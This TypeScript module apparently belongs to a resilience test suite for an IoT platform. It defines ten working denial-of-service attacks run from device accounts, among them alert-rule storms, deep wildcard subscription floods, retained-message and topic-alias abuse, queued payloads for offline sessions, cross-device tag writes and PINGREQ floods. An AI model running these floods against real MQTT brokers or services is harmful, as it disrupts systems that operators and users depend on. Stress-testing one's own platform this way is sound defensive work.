import type { Packet } from "mqtt-packet";
import type { Api } from "../load/api-client.js";
import { type DeviceRecord, type FleetOfDevices, provision } from "../load/fleet.js";
import {
  type Attack,
  createSockets,
  host,
  type MqttClient,
  mqttConnect,
  pause,
  type Target,
  within,
} from "./attack.js";

const sockets = createSockets();
const release = (): void => sockets.closeAll();
let fleet: FleetOfDevices | undefined;

/** The attacker's devices, made by `prepare`. */
export async function makeFleet(target: Target, count: number): Promise<FleetOfDevices> {
  fleet = await provision(target.api, count);
  return fleet;
}

export function deviceAt(n: number): DeviceRecord {
  const device = fleet?.devices[n];
  if (device === undefined) throw new Error(`cannot attack: there is no device ${n}`);
  return device;
}

const devices = (count: number) => async (target: Target) => void (await makeFleet(target, count));

function publish(topic: string, payload: string | Buffer, fields: object = {}): Packet {
  return {
    cmd: "publish",
    topic,
    payload,
    qos: 1,
    dup: false,
    retain: false,
    messageId: 1,
    ...fields,
  } as Packet;
}

async function acknowledged(target: Target, client: MqttClient | null, ...packets: Packet[]): Promise<void> {
  if (client === null) return;
  client.send(...packets);
  const acks = packets.filter((packet) => packet.cmd === "publish" && packet.qos === 1).length;
  await within(target, Promise.all(Array.from({ length: acks }, () => client.next("puback"))));
}

/** Many alert rules of one data point, all of which change with every value. */
async function makeRules(api: Api, dataPointIntID: number, count: number, condition: (n: number) => string) {
  for (let n = 0; n < count; n++) {
    const rule = { alertName: `rule ${n}`, dataPointIntID, condition: condition(n) };
    const { status } = await api.call("POST", "/api/v1/alert_rules", rule);
    // A bound on rules is an answer to this attack.
    if (status === 403) return;
  }
}

const swinging = (): string =>
  JSON.stringify(Array.from({ length: 9_900 }, (_, n) => ({ time: Date.now() - 10_000 + n, temp: n % 2 })));

async function sendSwinging(target: Target): Promise<void> {
  const client = await mqttConnect(target, sockets, deviceAt(0));
  await acknowledged(target, client, publish("telemetry", swinging()));
  await pause(5_000);
}

/** As large as they may be by default: what is larger is refused before it costs anything. */
const levelsMax = 32;
const topicCharacters = 1_000;

/** These have the token of a device. */
export const asDevice: readonly Attack[] = [
  {
    name: "swinging alerts",
    what: "one message of 9,900 times that begins and ends 40 rules with each",
    prepare: async (target) => {
      const { dataPointIntIDs } = await makeFleet(target, 1);
      await makeRules(target.api, dataPointIntIDs[0] ?? 0, 40, (n) => `dataPoint > 0.${n + 1}`);
    },
    run: sendSwinging,
    release,
  },
  {
    name: "slow rules",
    what: "one message of 9,900 times through 8 rules with a formula that is long to compute",
    prepare: async (target) => {
      const { dataPointIntIDs } = await makeFleet(target, 1);
      const slow = Array.from({ length: 30 }, () => "floor(dataPoint,15)").join("+");
      await makeRules(target.api, dataPointIntIDs[0] ?? 0, 8, (n) => `${slow} > ${n}`);
    },
    run: sendSwinging,
    release,
  },
  {
    name: "deep filters",
    what: "7 sessions of 1,000 filters of 32 levels of +, then 1,000 messages in one write",
    prepare: devices(8),
    run: async (target) => {
      const levels = Array.from({ length: levelsMax }, (_, n) => `l${n}`);
      for (let s = 0; s < 7; s++) {
        const client = await mqttConnect(target, sockets, deviceAt(s), { clientId: `deep-${s}` });
        for (let at = 0; at < 1_000; at += 50) {
          const subscriptions = Array.from({ length: 50 }, (_, i) => {
            const filter = levels.map((level, n) => ((at + i) % levelsMax === n ? level : "+"));
            return { topic: `${filter.join("/")}${at}`, qos: 0 as const };
          });
          client?.send({ cmd: "subscribe", messageId: 1 + at, subscriptions });
          await within(target, client?.next("suback") ?? Promise.resolve());
        }
      }
      const client = await mqttConnect(target, sockets, deviceAt(7), { clientId: "deep-publisher" });
      const all = Array.from({ length: 1_000 }, (_, n) =>
        publish(levels.join("/"), "1", { messageId: n + 1 }),
      );
      await acknowledged(target, client, ...all);
    },
    release,
  },
  {
    name: "retained again",
    what: "2,000 SUBSCRIBE # in one write over 1,000 retained messages, unread",
    prepare: devices(1),
    run: async (target) => {
      const client = await mqttConnect(target, sockets, deviceAt(0));
      for (let at = 0; at < 1_000; at += 100) {
        const some = Array.from({ length: 100 }, (_, i) =>
          publish(`kept/${at + i}`, "x".repeat(200), { retain: true, messageId: i + 1 }),
        );
        await acknowledged(target, client, ...some);
      }
      const subscribe = (n: number): Packet => ({
        cmd: "subscribe",
        messageId: n + 1,
        subscriptions: [{ topic: "#", qos: 0 }],
      });
      client?.socket.pause();
      client?.send(...Array.from({ length: 2_000 }, (_, n) => subscribe(n)));
      await pause(8_000);
    },
    release,
  },
  {
    name: "long topics",
    what: "an envelope of 9,600 entries on a topic of 1,000 characters; 2,000 messages by an alias of it",
    prepare: async (target) => {
      await makeFleet(target, 2);
      const carried = { upLinkSystem: 3, parentDevice: deviceAt(0).id };
      const { status, text } = await target.api.call("PUT", `/api/v1/devices/${deviceAt(1).id}`, carried);
      if (status !== 200) throw new Error(`cannot attack: ${text.slice(0, 200)}`);
    },
    run: async (target) => {
      const child = deviceAt(1).deviceID;
      const entries = Array.from({ length: 9_600 }, () => ({ DeviceID: child, temp: 1 }));
      const topic = "t".repeat(topicCharacters);
      const first = await mqttConnect(target, sockets, deviceAt(0), { clientId: "envelope" });
      await acknowledged(target, first, publish(topic, JSON.stringify({ Telemetry: entries })));
      const second = await mqttConnect(target, sockets, deviceAt(0), { clientId: "alias" });
      const aliased = (n: number) =>
        publish(n === 0 ? topic : "", "1", { messageId: n + 1, properties: { topicAlias: 1 } });
      await acknowledged(target, second, ...Array.from({ length: 2_000 }, (_, n) => aliased(n)));
    },
    release,
  },
  {
    name: "many months",
    what: "one message with points in 1,440 months, then one in 4,000",
    prepare: devices(1),
    run: async (target) => {
      const client = await mqttConnect(target, sockets, deviceAt(0));
      for (const months of [1_440, 4_000]) {
        const points = Array.from({ length: months }, (_, n) => {
          const time = new Date(Date.UTC(1700, 0, 15)).setUTCMonth(n);
          return { time: new Date(time).toISOString(), temp: n };
        });
        await acknowledged(target, client, publish("telemetry", JSON.stringify(points)));
      }
      await pause(5_000);
    },
    release,
  },
  {
    name: "oldest time",
    what: "a point of 1684-07-30 and one of the year 9999",
    prepare: devices(1),
    run: async (target) => {
      const client = await mqttConnect(target, sockets, deviceAt(0));
      for (const time of ["1684-07-30T00:00:00Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"])
        await acknowledged(target, client, publish("telemetry", JSON.stringify({ time, temp: 1 })));
      await pause(2_000);
    },
    release,
  },
  {
    name: "idle sessions",
    what: "80 sessions that are away, each sent 4 MB it does not fetch",
    prepare: devices(81),
    run: async (target) => {
      for (let s = 0; s < 80; s++) {
        const fields = { clientId: `away-${s}`, clean: false, properties: { sessionExpiryInterval: 3_600 } };
        const client = await mqttConnect(target, sockets, deviceAt(s), fields);
        client?.send({ cmd: "disconnect", reasonCode: 0 } as Packet);
        client?.socket.end();
      }
      const payload = "x".repeat(250_000);
      for (let n = 0; n < 18 && performance.now() < target.until; n++) {
        for (let s = 0; s < 80 && performance.now() < target.until; s++) {
          const command = { deviceID: deviceAt(s).deviceID, payload, qos: 1 };
          await target.api.call("POST", "/api/v1/device_publish", command);
        }
      }
    },
    release,
  },
  {
    name: "tags of devices",
    what: "8 bodies of line protocol whose 6,000 lines each name another device that is not below the writer",
    prepare: devices(8),
    run: async (target) => {
      const body = Array.from({ length: 6000 }, (_, n) => `m,device=another-${n} n=1`).join("\n");
      await within(
        target,
        Promise.all(
          Array.from({ length: 8 }, (_, n) =>
            fetch(`http://${host}:${target.httpPort}/api/v2/write`, {
              method: "POST",
              headers: { Authorization: `Token ${deviceAt(n).deviceUsername}:${deviceAt(n).token}` },
              body,
            }),
          ),
        ),
      );
    },
  },
  {
    name: "small packets",
    what: "20 connections that write 100,000 PINGREQ at once and read nothing",
    prepare: devices(20),
    run: async (target) => {
      const pings = Buffer.alloc(200_000, Buffer.from([0xc0, 0]));
      for (let s = 0; s < 20; s++) {
        const client = await mqttConnect(target, sockets, deviceAt(s), { clientId: `ping-${s}` });
        client?.socket.pause();
        client?.socket.write(pings);
      }
      await pause(5_000);
    },
    release,
  },
];
